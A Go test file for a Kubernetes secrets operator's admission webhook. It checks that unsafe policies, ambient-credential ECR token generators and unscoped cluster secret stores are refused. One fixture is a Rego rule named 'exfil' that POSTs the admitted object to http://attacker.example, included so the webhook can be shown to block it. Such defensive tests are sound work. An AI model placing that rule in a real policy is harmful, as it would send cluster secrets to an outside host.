package admission

import (
	"context"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	esv1 "github.com/vigil-dev/vigil/api/externalsecrets/v1"
	genv1alpha1 "github.com/vigil-dev/vigil/api/generators/v1alpha1"
	policyv1alpha1 "github.com/vigil-dev/vigil/api/policy/v1alpha1"
)

func wantDenied(t *testing.T, what string, err error, wants ...string) {
	t.Helper()
	if err == nil {
		t.Errorf("%s was admitted", what)
		return
	}
	for _, w := range append([]string{"denied the request"}, wants...) {
		if !strings.Contains(err.Error(), w) {
			t.Errorf("%s: refusal %q does not say %q", what, err, w)
		}
	}
}

// A ClusterSecretPolicy that would reach the network, or whose CEL is too costly in the
// worst case, is refused by the webhook with the reason.
func TestAdmission_PolicySandboxRefusesPolicies(t *testing.T) {
	ctx := context.Background()
	network := &policyv1alpha1.ClusterSecretPolicy{ObjectMeta: metav1.ObjectMeta{Name: "phones-home"}, Spec: policyv1alpha1.ClusterSecretPolicySpec{
		Rego: []policyv1alpha1.RegoRule{{Name: "exfil", Module: "package vigil.custom.exfil\nimport rego.v1\nviolation contains {\"message\": \"x\"} if {\n  http.send({\"method\": \"POST\", \"url\": \"http://attacker.example\", \"body\": input.object}).status_code == 0\n}\n"}},
	}}
	wantDenied(t, "a policy calling http.send", c.Create(ctx, network), "phones-home/exfil.rego:4", "http.send is not allowed in policies", "network")
	clock := &policyv1alpha1.ClusterSecretPolicy{ObjectMeta: metav1.ObjectMeta{Name: "clock"}, Spec: policyv1alpha1.ClusterSecretPolicySpec{
		Rego: []policyv1alpha1.RegoRule{{Name: "now", Module: "package vigil.custom.now\nimport rego.v1\nviolation contains {\"message\": \"late\"} if time.now_ns() > 0\n"}},
	}}
	wantDenied(t, "a policy calling time.now_ns", c.Create(ctx, clock), "time.now_ns is not allowed in policies", "clock")
	cubic := &policyv1alpha1.ClusterSecretPolicy{ObjectMeta: metav1.ObjectMeta{Name: "cubic"}, Spec: policyv1alpha1.ClusterSecretPolicySpec{
		Validations: []policyv1alpha1.CELRule{{Name: "pairs", Message: "m", Expression: `input.object.spec.data.all(a, input.object.spec.data.all(b, input.object.spec.data.all(c, a != b || b != c)))`}},
	}}
	wantDenied(t, "a cubic CEL validation", c.Create(ctx, cubic), "CEL validation pairs: its estimated cost", "over the limit of 10000000")
}

// Generators pass the webhook like stores: an ECRAuthorizationToken without auth would use
// the controller's AWS identity and is refused; one with its own IRSA ServiceAccount is
// admitted. A ClusterSecretStore whose selector admits any labelled namespace is refused.
func TestAdmission_GeneratorsAndSelectors(t *testing.T) {
	ctx := context.Background()
	ns := env.T(t).NewNamespace()
	ambient := &genv1alpha1.ECRAuthorizationToken{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "ecr"}, Spec: genv1alpha1.ECRAuthorizationTokenSpec{Region: "us-east-1"}}
	wantDenied(t, "an ECRAuthorizationToken without auth", c.Create(ctx, ambient), "store-ambient-credentials", "ECRAuthorizationToken "+ns+"/ecr", "allowNamespaces")
	own := &genv1alpha1.ECRAuthorizationToken{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "ecr-irsa"}, Spec: genv1alpha1.ECRAuthorizationTokenSpec{Region: "us-east-1",
		Auth: esv1.AWSAuth{JWTAuth: &esv1.AWSJWTAuth{ServiceAccountRef: &esv1.ServiceAccountSelector{Name: "registry"}}}}}
	if err := c.Create(ctx, own); err != nil {
		t.Errorf("an ECRAuthorizationToken with its own IRSA ServiceAccount was refused: %v", err)
	}
	open := &esv1.ClusterSecretStore{ObjectMeta: metav1.ObjectMeta{Name: "exists-" + ns}, Spec: esv1.SecretStoreSpec{
		Conditions: []esv1.ClusterSecretStoreCondition{{NamespaceSelector: &metav1.LabelSelector{MatchExpressions: []metav1.LabelSelectorRequirement{{Key: "team", Operator: metav1.LabelSelectorOpExists}}}}},
		Provider:   &esv1.SecretStoreProvider{Fake: &esv1.FakeProvider{Data: []esv1.FakeProviderData{}}},
	}}
	wantDenied(t, "a ClusterSecretStore selecting team Exists", c.Create(ctx, open), "clustersecretstore-unscoped", "pins no label")
}
